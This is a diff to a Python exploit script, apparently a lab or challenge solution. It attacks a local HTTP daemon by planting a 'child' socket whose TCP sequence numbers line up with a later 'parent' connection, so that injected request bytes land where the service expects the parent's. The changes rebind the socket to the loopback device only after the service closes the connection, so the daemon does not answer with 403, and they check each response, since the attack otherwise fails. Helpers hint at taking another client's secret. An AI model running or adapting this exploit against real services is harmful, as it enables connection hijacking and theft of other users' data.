@@ -8,10 +8,15 @@ The child's socket is bound to the device `lo`. Its first sequence number and th
 the two, because all four numbers are the same. They are equal again after `ROUND`. So the child connects that long before the parent, has
 the service end its connection, and keeps its own end. What it then sends is near the place at which the service expects the bytes of the
 parent, and after some line breaks, which HTTP ignores in front of a request, exactly there.
+
+The child binds its socket only after the service has ended the connection. The kernel names no socket that is bound to a device, so the
+daemon answers its first request with 403 and closes the connection. Then the child could acknowledge only that short answer, which is a
+place long before those that the parent acknowledges, and the kernel would not accept its bytes later.
 """
 
 import http.client
 import socket
+import sys
 import time
 from dataclasses import dataclass
 
@@ -76,6 +81,13 @@ def post(port: int, length: int) -> str:
     return head(port, f"POST {PATH}", fields)
 
 
+def read_answer(connection: socket.socket) -> tuple[str, str]:
+    """The status and the content."""
+    answer = http.client.HTTPResponse(connection)
+    answer.begin()
+    return str(answer.status), answer.read().decode()
+
+
 @dataclass
 class Twin:
     """The child's end of a connection that the service has ended."""
@@ -110,15 +122,21 @@ class Child:
         """A connection of which the service's end is gone, but not the child's."""
         twin = client(own)
         twin.settimeout(10)
-        twin.setsockopt(socket.SOL_SOCKET, OPTION_BIND_TO_DEVICE, b"lo\0")
         made = time.time_ns()
         twin.connect(("127.0.0.1", self.port))
-        last = head(self.port, f"GET {LOOK}", "Connection: close\r\n\r\n")
-        requests = (head(self.port, f"GET {LOOK}", "\r\n") * (CHILD_FILES - 1) + last).encode()
-        twin.sendall(requests)
+        sent = 0
+        for fields in ("",) * (CHILD_FILES - 1) + ("Connection: close\r\n",):
+            request = (head(self.port, f"GET {LOOK}", fields) + "\r\n").encode()
+            twin.sendall(request)
+            sent += len(request)
+            status, _ = read_answer(twin)
+            if status != "200":
+                # The kernel would accept none of the child's bytes later, and the attack would fail whatever the service does.
+                sys.exit(f"Port {self.port} answered the child's request for a file with {status}.")
         while twin.recv(1 << 16):
             pass
-        return Twin(twin, made, len(requests))
+        twin.setsockopt(socket.SOL_SOCKET, OPTION_BIND_TO_DEVICE, b"lo\0")
+        return Twin(twin, made, sent)
 
     def seen(self, own: int, end: int) -> int | None:
         """When the parent's socket is there; None if it does not come."""
@@ -207,9 +225,7 @@ class Browser:
     def ask(self, connection: socket.socket, request: str, fields: str = "", form: str = "") -> tuple[str, str]:
         """The status and the content of the answer."""
         connection.sendall((head(self.port, request, fields) + "\r\n" + form).encode())
-        answer = http.client.HTTPResponse(connection)
-        answer.begin()
-        return str(answer.status), answer.read().decode()
+        return read_answer(connection)
 
 
 def own_secret(port: int) -> str:
